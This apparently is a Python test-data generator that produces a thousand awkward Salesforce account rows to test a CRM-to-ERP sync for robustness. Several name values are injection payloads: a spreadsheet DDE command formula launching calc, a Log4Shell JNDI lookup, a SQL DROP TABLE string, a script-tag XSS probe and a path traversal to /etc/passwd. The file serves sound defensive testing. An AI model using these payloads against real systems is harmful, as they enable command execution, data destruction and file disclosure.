"""A thousand awkward accounts: what people and other systems really put into a CRM, and what breaks careless code.

Each ends in one of three ways, and the counts must add up: the org refuses it (`Kind.refused`), it reaches the
ERP character for character, or it becomes an exception with a reason. Rows are found again by ``Site`` (``H-0001`` …),
since one of the kinds repeats account numbers.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from itertools import cycle
from random import Random

from sandbox.company.registrations import registration
from sandbox.company.rows import Fields, Row

PREFIX = "H-"
KEY = "Site"

_QUOTES = (
    '"Quoted"',
    "O''Brien",
    "“Smart” ‘Quotes’",
    '""',
    "`back`",
    'it\'s "both"',
    'trailing"',
    "'",
    "\\'escaped\\'",
    '","',
)
_LINES = (
    "1 Main St\nFloor 2",
    "1 Main St\r\nFloor 2",
    "Tab\there",
    "a\n\n\nb",
    "line\u2028separator",
    "\\n not a newline",
    "a\rb",
)
_FOUR_BYTES = ("Rocket 🚀", "👩‍👩‍👧‍👦 Family", "𠮷野家", "𝔐𝔢𝔯𝔦𝔡𝔦𝔞𝔫", "🇳🇱 Holland", "Thumbs 👍🏽", "😀" * 20)
_RIGHT_TO_LEFT = ("شركة القياس", "מדידות בע״מ", "\u202eReversed", "English شركة mixed", "\u200fMark first", "١٢٣ أرقام")
_FORMULAS = (
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://x.example","click")',
    "=cmd|' /C calc'!A0",
    "\t=1",
)
_WORDS = (
    "#N/A",
    "NULL",
    "null",
    "None",
    "NaN",
    "\\N",
    "true",
    "1e5",
    "0x1F",
    "%s %d {0} {name}",
    "${jndi:ldap://x.example/a}",
    "{{ ds }}",
    "'; DROP TABLE link;--",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a;b;c",
    "a,b,c",
    "a|b",
    "\\",
    "&amp;",
    "%27 OR 1=1",
    "LIKE '%_",
    "1/2/2024",
    "2024-02-30",
    "--",
    "/*",
    "$1",
    ":name",
    "?",
)
_UNICODE = (
    "e\u0301 decomposed",
    "é composed",
    "zero\u200bwidth",
    "no\u00a0break",
    "\ufefffirst",
    "ﬁ ligature",
    "ſtraße",
    "İi ıI",
    "Ǆ ǅ ǆ",
    "\u00adsoft",
    "ﷺ",
    "Z̷a̷l̷g̷o̷",
    "�",
)
_BIRTHDATES = (
    "1700-01-01",
    "1899-12-31",
    "1900-02-28",
    "1969-12-31",
    "1970-01-01",
    "2000-02-29",
    "2038-01-19",
    "4000-12-31",
)
_ZEROS = ("007", "0001234", "00", "0", "000-000", "+00 31", "0123456789012345678901234567")


@dataclass(frozen=True, slots=True, kw_only=True)
class Kind:
    """One way of being awkward. `refused`: Salesforce itself will not save it."""

    name: str
    spoil: Callable[[Row, int, Random], Row]
    refused: bool = False


def hostile(count: int = 1000, seed: int = 7) -> list[tuple[Kind, Row]]:
    """Awkward accounts of every kind in turn, the same ones for the same seed."""
    random = Random(seed)
    kinds = cycle(KINDS)
    made: list[tuple[Kind, Row]] = []
    for place in range(1, count + 1):
        kind = next(kinds)
        row = kind.spoil(_plain(place, random), (place - 1) // len(KINDS), random)
        made.append((kind, row))
    return made


def _plain(place: int, random: Random) -> Row:
    """A good account to be spoiled; its name is like no other's."""
    entities = random.choice(("NL01", "US01", "NL01;US01"))
    number = f"{PREFIX}{place:04}"
    fields: Fields = {
        "Name": f"Hostile {place:04}",
        "CurrencyIsoCode": "EUR" if entities == "NL01" else "USD",
        "Legal_Entities__c": entities,
        "BillingStreet": f"Teststraat {place}",
        "BillingCity": "Delft",
        "BillingPostalCode": "2611 AB",
        "BillingCountryCode": "NL",
        "AccountNumber": number,
    }
    return Row(number=number, fields=fields)


def _with(row: Row, **fields: str | None) -> Row:
    return replace(row, fields={**row.fields, **fields})


def _named(texts: tuple[str, ...]) -> Callable[[Row, int, Random], Row]:
    """The text in the name, the legal name, the city and a contact; the row's own number keeps names apart."""

    def spoil(row: Row, turn: int, _: Random) -> Row:
        text = texts[turn % len(texts)]
        spoiled = _with(
            row, Name=f"{text} {row.number[2:]}", Legal_Name__c=f"{text} {row.number}", BillingCity=text[:40]
        )
        return replace(spoiled, contacts=({"LastName": text[:80], "FirstName": f"{text[:15]}{turn}", "Title": text},))

    return spoil


def _lines(row: Row, turn: int, _: Random) -> Row:
    return _with(
        row,
        BillingStreet=_LINES[turn % len(_LINES)],
        ShippingStreet=_LINES[-turn % len(_LINES)],
        ShippingCountryCode="NL",
    )


def _zeros(row: Row, turn: int, _: Random) -> Row:
    text = _ZEROS[turn % len(_ZEROS)]
    spoiled = _with(row, Name=f"{text} {row.number[2:]}", BillingPostalCode=text[:20], Phone=text)
    return replace(spoiled, contacts=({"LastName": text, "Phone": text},))


def _empty(row: Row, turn: int, _: Random) -> Row:
    nothing = ("", None, "   ")[turn % 3]
    return _with(
        row,
        Legal_Name__c=nothing,
        BillingCity=nothing,
        Phone=nothing,
        Tax_Registration__c=nothing,
        ShippingStreet=nothing,
    )


def _longest(row: Row, turn: int, _: Random) -> Row:
    """Every text as long as Salesforce takes; more than some ERPs do."""
    letter = ("x", "é", "漢")[turn % 3]
    name = (letter * 255)[: 255 - len(row.number)] + row.number
    return _with(row, Name=name, BillingStreet=letter * 255, BillingCity=letter * 40, BillingPostalCode=letter * 20)


def _too_long(row: Row, turn: int, _: Random) -> Row:
    field, limit = (("Name", 255), ("BillingCity", 40), ("BillingPostalCode", 20), ("Tax_Registration__c", 30))[
        turn % 4
    ]
    return _with(row, **{field: "x" * (limit + 1 + turn % 500)})


def _no_such_choice(row: Row, turn: int, _: Random) -> Row:
    field, value = (("BillingCountryCode", "XX"), ("CurrencyIsoCode", "ZZZ"), ("Legal_Entities__c", "DE01"))[turn % 3]
    return _with(row, **{field: value})


def _no_such_parent(row: Row, turn: int, _: Random) -> Row:
    return _with(row, ParentId=("001000000000001AAA", "not an id", "003000000000001AAA")[turn % 3])


def _missing(row: Row, turn: int, _: Random) -> Row:
    field = ("BillingCountryCode", "Legal_Entities__c")[turn % 2]
    return _with(row, **{field: None})


def _under_held(row: Row, turn: int, _: Random) -> Row:
    """Below the row before it, of the kind that lacks what an ERP needs."""
    return replace(row, parent=f"{PREFIX}{int(row.number[2:]) - 1:04}")


def _loop(row: Row, turn: int, _: Random) -> Row:
    """Above itself, or two above each other (this turn's and the next one's)."""
    if turn % 3 == 2:
        return replace(row, parent=row.number)
    other = int(row.number[2:]) + (len(KINDS) if turn % 3 == 0 else -len(KINDS))
    return replace(row, parent=f"{PREFIX}{other:04}")


def _same_registration(row: Row, turn: int, _: Random) -> Row:
    """Two rows with one registration, written differently."""
    number = registration("NL", Random(turn // 2))
    return _with(row, Tax_Registration__c=number if turn % 2 else f"{number[:4]} {number[4:7]}.{number[7:]}")


def _same_name(row: Row, turn: int, _: Random) -> Row:
    name = ("Twin Works {} B.V.", "TWIN WORKS {} bv", "Twín  Works {}, B.V.")[turn % 3]
    return _with(row, Name=name.format(turn // 3))


def _same_number(row: Row, turn: int, _: Random) -> Row:
    return _with(row, AccountNumber=f"DUPLICATE-{turn // 2}")


def _dates(row: Row, turn: int, _: Random) -> Row:
    return replace(row, contacts=({"LastName": f"Born {turn}", "Birthdate": _BIRTHDATES[turn % len(_BIRTHDATES)]},))


def _crowd(row: Row, turn: int, _: Random) -> Row:
    """Many contacts, two of them of the same name but for its accents, some with next to nothing."""
    people: list[Fields] = [{"LastName": f"Person {number}"} for number in range(turn % 30)]
    return replace(row, contacts=(*people, {"LastName": "Noël"}, {"LastName": "Noe\u0308l"}, {"LastName": "."}))


KINDS = (
    Kind(name="quotes", spoil=_named(_QUOTES)),
    Kind(name="line breaks", spoil=_lines),
    Kind(name="four-byte characters", spoil=_named(_FOUR_BYTES)),
    Kind(name="right to left", spoil=_named(_RIGHT_TO_LEFT)),
    Kind(name="leading zeros", spoil=_zeros),
    Kind(name="formula-like", spoil=_named(_FORMULAS)),
    Kind(name="words that mean something elsewhere", spoil=_named(_WORDS)),
    Kind(name="characters that look alike", spoil=_named(_UNICODE)),
    Kind(name="empty, null and blank", spoil=_empty),
    Kind(name="as long as it may be", spoil=_longest),
    Kind(name="too long", spoil=_too_long, refused=True),
    Kind(name="not in the picklist", spoil=_no_such_choice, refused=True),
    Kind(name="no such parent", spoil=_no_such_parent, refused=True),
    Kind(name="a required value missing", spoil=_missing),
    Kind(name="below one that is held", spoil=_under_held),
    Kind(name="circular parents", spoil=_loop),
    Kind(name="the same registration", spoil=_same_registration),
    Kind(name="the same name", spoil=_same_name),
    Kind(name="the same account number", spoil=_same_number),
    Kind(name="dates at the edges", spoil=_dates),
    Kind(name="a crowd of contacts", spoil=_crowd),
)
